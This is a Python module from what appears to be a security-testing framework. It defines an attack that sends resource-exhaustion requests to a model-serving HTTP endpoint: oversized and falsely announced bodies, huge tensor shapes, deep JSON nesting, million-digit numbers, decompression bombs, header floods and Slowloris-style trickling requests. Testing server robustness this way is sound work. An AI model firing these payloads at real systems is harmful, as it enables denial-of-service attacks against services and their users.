"""Requests that cost the server more than the sender: see `ExhaustServer`."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import islice
from random import Random
from typing import Any, ClassVar

from hauberk.core.attack import Play, Transcript
from hauberk.core.threat import ThreatId
from hauberk.formats.http import Answer, Call, ServedModel

_JSON = ("content-type", "application/json")
_REFUSALS = frozenset({400, 408, 411, 413, 415, 422, 429, 431, 503})


@dataclass(frozen=True, slots=True, kw_only=True)
class Load:
    """One expensive request.

    Attributes:
        closes: Whether a server may close the connection unanswered: it is too slow, or too
            much was sent before the answer.
    """

    name: str
    call: Call
    closes: bool = False


@dataclass(frozen=True, slots=True, kw_only=True)
class ExhaustServer(Play[ServedModel]):
    """Send requests that are large, deep, dear or slow, each a little different.

    Bodies beyond any use, announced or not; shapes of a billion elements over a few bytes;
    brackets a hundred thousand deep; numbers of a million digits; strings, keys and tensors
    by the hundred thousand; compressed bodies a thousand times as large unpacked; more rows
    than anybody asks at once; headers and bodies that trickle in. A request has succeeded
    when the server works on it.

    Args:
        first: Number of the first request to send.
        count: How many to send.
        slow: Whether trickling requests are among them; they need a real connection.
        pause_s: Time between two pieces of a trickling request.

    References:
        CWE-400, CWE-409, CWE-674. R. Hansen, 2009, "Slowloris". OWASP LLM10:2025.
    """

    title: ClassVar[str] = "Exhaust the server"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("SV-6"),)
    subject: ClassVar[type] = ServedModel

    first: int = 0
    count: int = 1000
    slow: bool = False
    pause_s: float = 1.0

    def play(self, target: ServedModel, rng: Random) -> Transcript:
        """Send the chosen requests one after the other."""
        loads = list(islice(self.loads(target, rng), self.first, self.first + self.count))
        answers = [(load, target.door.call(load.call)) for load in loads]
        passed = [load.name for load, answer in answers if not is_refusal(load, answer)]
        return Transcript(
            succeeded=bool(passed),
            queries=len(loads),
            facts={
                "passed": passed,
                "statuses": [answer.status for _, answer in answers],
                "seconds": [answer.seconds for _, answer in answers],
                "processor_s": [answer.processor_s for _, answer in answers],
            },
        )

    def loads(self, target: ServedModel, rng: Random) -> Iterator[Load]:
        """All requests, in a fixed order."""
        for kind, make in _MAKERS:
            for number, call in enumerate(make(target, rng)):
                yield Load(name=f"{kind} {number}", call=call, closes=make in _LARGE)
        for number, call in enumerate(_trickles(target, self.pause_s) if self.slow else ()):
            yield Load(name=f"trickle {number}", call=call, closes=True)


def is_refusal(load: Load, answer: Answer) -> bool:
    """Whether the server did not work on the request."""
    return answer.status in _REFUSALS or (load.closes and answer.status == 0)


Maker = Callable[[ServedModel, Random], Iterator[Call]]


def _post(target: ServedModel, *chunks: bytes, headers: tuple[tuple[str, str], ...] = ()) -> Call:
    return Call(path=target.path, headers=(_JSON, *headers), chunks=chunks)


def _with(target: ServedModel, **fields: Any) -> bytes:
    top = json.loads(target.sample)
    top["inputs"][0] |= fields
    return json.dumps(top).encode()


def _oversized(target: ServedModel, rng: Random) -> Iterator[Call]:
    for size_mb in (5, 6, 8, 12):
        filler = b" " * ((size_mb << 20) + rng.randrange(1000))
        yield _post(target, target.sample + filler)
        pieces = (target.sample, *[filler[: 1 << 20]] * size_mb)
        yield _post(target, *pieces, headers=(("transfer-encoding", "chunked"),))
    for announced in (10**7, 10**9, 10**12, 10**18, 10**30):
        yield _post(target, target.sample, headers=(("content-length", str(announced)),))


def _shapes(target: ServedModel, rng: Random) -> Iterator[Call]:
    for shape in ([10**9, 2], [2, 10**9], [10**5, 10**5], [10**18, 1], [10**6] * 8, [2] * 64):
        yield _post(target, _with(target, shape=shape))
        yield _post(target, _with(target, shape=shape, data=[]))
    for _ in range(8):
        yield _post(target, _with(target, shape=[rng.randrange(2 * 10**6, 10**12), 1]))


def _deep(target: ServedModel, rng: Random) -> Iterator[Call]:
    for least in (30, 60, 120, 240):
        depth = least + rng.randrange(least)
        yield _post(target, b"[" * depth + b"]" * depth)
        yield _post(target, b'{"a":' * depth + b"1" + b"}" * depth)
        yield _post(target, _with(target, data=json.loads("[" * depth + "]" * depth)))
    for brackets in (b"[", b'{"a":'):
        yield _post(target, brackets * 100_000)


def _digits(target: ServedModel, rng: Random) -> Iterator[Call]:
    text = json.dumps(_placeholder(target))
    for length in (100, 1000, 10_000, 100_000, 1_000_000):
        number = "1" + "".join(rng.choice("0123456789") for _ in range(50)) * (length // 50)
        for literal in (f"0.{number}", f"1e{number}", f"-0.{number}", f"1{number[:4000]}.5"):
            yield _post(target, text.replace('"here"', literal).encode())


def _placeholder(target: ServedModel) -> dict[str, Any]:
    top: dict[str, Any] = json.loads(target.sample)
    top["inputs"][0]["data"][0] = "here"
    return top


def _many(target: ServedModel, rng: Random) -> Iterator[Call]:
    tensor = json.loads(target.sample)["inputs"][0]
    for least in (1000, 5000, 20_000):
        n = least + rng.randrange(100)
        names = [f"k{i}" for i in range(n)]
        yield _post(
            target, json.dumps(json.loads(target.sample) | dict.fromkeys(names, 1)).encode()
        )
        yield _post(target, json.dumps({"inputs": [tensor | {"name": x} for x in names]}).encode())
        outputs = [{"name": x} for x in names]
        yield _post(target, json.dumps({"inputs": [tensor], "outputs": outputs}).encode())
        yield _post(target, _with(target, parameters=dict.fromkeys(names, 1)))
        yield _post(target, _with(target, name="n" * 100 * n))
        yield _post(target, json.dumps({"inputs": [tensor], "id": "i" * 100 * n}).encode())


def _rows(target: ServedModel, rng: Random) -> Iterator[Call]:
    tensor = json.loads(target.sample)["inputs"][0]
    width = len(tensor["data"]) // tensor["shape"][0]
    for least in (2000, 5000, 20_000, 100_000):
        n_rows = least + rng.randrange(1000)
        data = [1.5] * (n_rows * width)
        yield _post(target, _with(target, shape=[n_rows, *tensor["shape"][1:]], data=data))


def _bombs(target: ServedModel, rng: Random) -> Iterator[Call]:
    for size_mb in (1, 4, 16, 32):
        plain = target.sample + b" " * ((size_mb << 20) + rng.randrange(1000))
        packed = gzip.compress(plain, 9)
        for coding, body in (
            ("gzip", packed),
            ("x-gzip", packed),
            ("deflate", zlib.compress(plain, 9)),
        ):
            yield _post(target, body, headers=(("content-encoding", coding),))
        twice = gzip.compress(packed, 9)
        yield _post(target, twice, headers=(("content-encoding", "gzip, gzip"),))


def _headers(target: ServedModel, rng: Random) -> Iterator[Call]:
    for n in (300, 1000, 3000):
        many = tuple((f"x-{i}", "a" * rng.randrange(60, 90)) for i in range(n))
        yield _post(target, target.sample, headers=many)
        yield _post(target, target.sample, headers=(("x-filler", "a" * n * 100),))


def _trickles(target: ServedModel, pause_s: float) -> Iterator[Call]:
    """Headers line by line, a body byte by byte, and one that never comes."""
    pieces = tuple(target.sample[i : i + 1] for i in range(len(target.sample)))
    yield Call(path=target.path, headers=(_JSON,), chunks=pieces, pause_s=pause_s)
    lines = tuple((f"x-{i}", "a") for i in range(60))
    yield Call(path=target.path, headers=(_JSON, *lines), chunks=(target.sample,), pause_s=pause_s)
    announced = (("content-length", str(len(target.sample) + 5)),)
    yield Call(path=target.path, headers=(_JSON, *announced), chunks=(target.sample,))


_MAKERS: tuple[tuple[str, Maker], ...] = (
    ("oversized body", _oversized),
    ("huge shape", _shapes),
    ("deep nesting", _deep),
    ("long number", _digits),
    ("many parts", _many),
    ("many rows", _rows),
    ("decompression bomb", _bombs),
    ("huge headers", _headers),
)
_LARGE = frozenset({_oversized, _headers})
"""A server that refuses early closes while they are still being sent."""
